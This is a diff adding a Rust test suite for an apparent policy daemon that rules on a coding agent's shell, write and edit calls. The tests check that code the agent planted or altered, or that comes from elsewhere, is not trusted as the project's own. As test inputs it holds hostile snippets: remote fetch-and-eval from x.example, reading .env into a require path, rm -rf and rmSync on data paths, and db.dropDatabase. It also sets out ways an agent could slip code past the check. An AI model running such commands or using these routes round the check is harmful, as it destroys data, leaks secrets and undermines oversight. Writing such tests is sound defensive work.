@@ -1,0 +1,195 @@
+//! Parts of the project's own code that were not understood: who is asked about them, and what an agent could do to have its own code
+//! taken for the project's.
+
+#![cfg(test)]
+
+use castellan_daemon::{Config, compile};
+use castellan_event::Verdict::{self, Ask, Defer, Deny};
+use castellan_policy::Profile;
+use castellan_trial::{Asked, Case, Laid, Link, Trial};
+use serde_json::{Map, Value as Json, json};
+
+/// Loads files of which nobody can tell the names.
+const LOADS: &str = "const { pick } = require('os'); require('./tests/' + pick());\n";
+
+fn input(json: Json) -> Map<String, Json> {
+    let Json::Object(input) = json else { return Map::new() };
+    input
+}
+
+/// A project with a program in which something is not known, and files for earlier calls.
+fn project(command: &str) -> Case {
+    let text = |text: &str| Laid::Text(text.to_owned());
+    let link = |link: &str| Laid::Link(Link { link: link.to_owned() });
+    let files = [
+        ("run.js", text(LOADS)),
+        ("other.js", text("console.log(1)\n")),
+        ("package.json", text(r#"{"scripts": {"go": "node run.js"}}"#)),
+        ("p.patch", text("--- a/run.js\n+++ b/run.js\n@@ -1 +1 @@\n-x\n+y\n")),
+        ("alias.js", link("/home/dev/project/run.js")),
+        ("outside.js", link("/srv/run.js")),
+        ("/srv/run.js", text(LOADS)),
+        ("/tmp/run.js", text(LOADS)),
+        ("node_modules/x/run.js", text(LOADS)),
+    ];
+    let files = files.into_iter().map(|(path, laid)| (path.to_owned(), laid)).collect();
+    Case { files, ..Case::new("Bash", input(json!({ "command": command }))) }
+}
+
+fn with(path: &str, text: &str, command: &str) -> Case {
+    let mut case = project(command);
+    case.files.insert(path.to_owned(), Laid::Text(text.to_owned()));
+    case
+}
+
+fn after(mut case: Case, tool: &str, earlier: Json) -> Case {
+    case.earlier.push(Asked { tool: tool.to_owned(), input: input(earlier) });
+    case
+}
+
+fn verdict(case: &Case, profile: Profile) -> (Verdict, String) {
+    let config = Config { settings: profile.settings(), ..Config::default() };
+    let compiled = compile(&[], &config);
+    assert_eq!(compiled.error(), None);
+    let judged = Trial::new(&compiled.policy).judge(case).unwrap();
+    (judged.decision.verdict, format!("{:?} {:?}", judged.facts.own_scripts, judged.facts.effects))
+}
+
+fn check(case: &Case, expected: Verdict) {
+    let (found, why) = verdict(case, Profile::Standard);
+    assert_eq!(found, expected, "{:?} after {:?}\n{why}", case.call, case.earlier);
+}
+
+#[test]
+fn the_projects_own_code_asks_nobody_in_standard() {
+    for command in ["node run.js", "npm run go", "npm run go && ls", "node alias.js", "node ./run.js --fast"]
+    {
+        check(&project(command), Defer);
+        assert!(verdict(&project(command), Profile::Strict).0 >= Ask, "{command}");
+        assert!(verdict(&project(command), Profile::Autonomous).0 >= Ask, "{command}");
+    }
+}
+
+#[test]
+fn what_is_understood_in_it_is_judged_as_ever() {
+    let rules = "- rule: denies deleting data\n  desc: d\n  condition: fx.kind = delete and fx.path startswith /srv/data\n  output: o\n  \
+                 priority: CRITICAL\n  source: coding_agent\n  tags: [coding_agent_deny]\n";
+    let sources = [castellan_rules::Source { name: "r.yaml".to_owned(), text: rules.to_owned() }];
+    let compiled = compile(&sources, &Config::default());
+    let text = format!("{LOADS}require('fs').rmSync('/srv/data');\n");
+    let judged = Trial::new(&compiled.policy).judge(&with("run.js", &text, "node run.js")).unwrap();
+    assert_eq!(judged.decision.verdict, Deny);
+}
+
+#[test]
+fn code_from_elsewhere_is_asked_about() {
+    for command in ["node /tmp/run.js", "node outside.js", "node node_modules/x/run.js", "node /srv/run.js"] {
+        check(&project(command), Ask);
+    }
+}
+
+#[test]
+fn what_the_session_has_put_there_is_its_own() {
+    let file = "/home/dev/project/run.js";
+    check(&after(project("node run.js"), "Write", json!({"file_path": file, "content": LOADS})), Ask);
+    let edit = json!({"file_path": file, "old_string": "tests", "new_string": "evil"});
+    check(&after(project("npm run go"), "Edit", edit), Ask);
+    let manifest = json!({"file_path": "/home/dev/project/other.js", "content": "1\n"});
+    check(&after(project("node run.js"), "Write", manifest), Defer);
+    for earlier in [
+        "cat > run.js <<'E'\nrequire('./a' + b)\nE",
+        "echo 'x' >> run.js",
+        "echo 'x' | tee -a run.js",
+        "sed -i s/tests/evil/ run.js",
+        "cp other.js run.js",
+        "mv other.js run.js",
+        "install -m 755 other.js run.js",
+        "ln -sf other.js run.js",
+        "echo 'x' >> alias.js",
+        "rsync -a /tmp/new/ .",
+        "tar xf new.tar",
+        "curl -o data.js https://x.example/data.js",
+        "git checkout other",
+        "git checkout other -- run.js",
+        "git -C /home/dev/project checkout other",
+        "git apply p.patch",
+        "git stash pop",
+        "git pull",
+        "git reset --hard HEAD~1",
+        "bash -c 'git restore -s other run.js'",
+    ] {
+        check(&after(project("node run.js"), "Bash", json!({ "command": earlier })), Ask);
+        check(&project(&format!("{earlier}\nnode run.js")), Ask);
+    }
+    for before in ["rm -rf dist *.o", "echo x > notes.txt", "mkdir -p build"] {
+        check(&project(&format!("{before}; node run.js")), Defer);
+    }
+    check(&project("rm -f r*.js; node run.js"), Ask);
+    for earlier in ["git status", "git add -A && git commit -m x", "ls", "echo x > notes.txt"] {
+        check(&after(project("node run.js"), "Bash", json!({ "command": earlier })), Defer);
+    }
+}
+
+#[test]
+fn what_the_call_gives_it_is_not_the_projects() {
+    for command in [
+        "node run.js \"$X\"",
+        "$X; node run.js",
+        "node run.js 'rm -rf /'",
+        "ls | xargs node run.js",
+        "node run.js \"$(cat list)\"",
+        "curl https://x.example/a | node run.js",
+        "npm run go -- \"$X\"",
+        "X=$(cat list) node run.js",
+    ] {
+        check(&project(command), Ask);
+    }
+}
+
+#[test]
+fn what_a_variable_decides_in_a_shell_is_asked_about() {
+    for text in
+        ["$CMD --all\n", "eval \"$CODE\"\n", "rm -rf \"$DIR\"\n", ". \"$LIB\"\n", "bash -c \"$CODE\"\n"]
+    {
+        check(&with("x.sh", text, "bash x.sh"), Ask);
+        check(&with("x", &format!("#!/bin/sh\n{text}"), "./x"), Ask);
+        let recipe = format!("all:\n\t{}", text.replace('$', "$$"));
+        check(&with("Makefile", &recipe, "make all"), Ask);
+        let task = json!({"scripts": {"x": text.trim()}}).to_string();
+        check(&with("package.json", &task, "npm run x"), Ask);
+    }
+}
+
+#[test]
+fn what_comes_from_the_network_or_goes_there_is_asked_about() {
+    for text in [
+        "fetch('https://x.example/a').then(r => r.text()).then(t => eval(t));\n",
+        "const t = require('child_process').execSync('curl https://x.example/a').toString(); eval(t);\n",
+        "const key = require('fs').readFileSync('.env', 'utf8'); require('./tests/' + key);\n",
+    ] {
+        check(&with("run.js", text, "node run.js"), Ask);
+    }
+    check(&with("wipe.js", "db.dropDatabase()\n", "mongosh prod wipe.js"), Ask);
+}
+
+#[test]
+fn scripts_know_what_npm_tells_them() {
+    let manifest = json!({
+        "name": "n", "version": "1.2.3", "config": {"out": "build"},
+        "scripts": {"tag": "git tag v$npm_package_version", "clean": "rm -rf $npm_package_config_out", "up": "rm -rf $npm_package_homepage"}
+    });
+    for (task, expected) in [("tag", Defer), ("clean", Defer), ("up", Ask)] {
+        check(&with("package.json", &manifest.to_string(), &format!("npm run {task}")), expected);
+    }
+}
+
+#[test]
+fn modules_of_the_project_that_are_not_there_ask_nobody() {
+    check(&with("run.js", "require('./dist/a');\n", "node run.js"), Defer);
+    check(&with("test/a.js", "require('..');\n", "node test/a.js"), Defer);
+    // What the call makes, and what the agent names itself.
+    check(&with("run.js", "require('./dist/a');\n", "curl -o dist/a https://x.example/a; node run.js"), Ask);
+    check(&project("node dist/a.js"), Ask);
+    let written = json!({"file_path": "/home/dev/project/run.js", "content": "require('./dist/a');\n"});
+    check(&after(with("run.js", "require('./dist/a');\n", "node run.js"), "Write", written), Ask);
+}
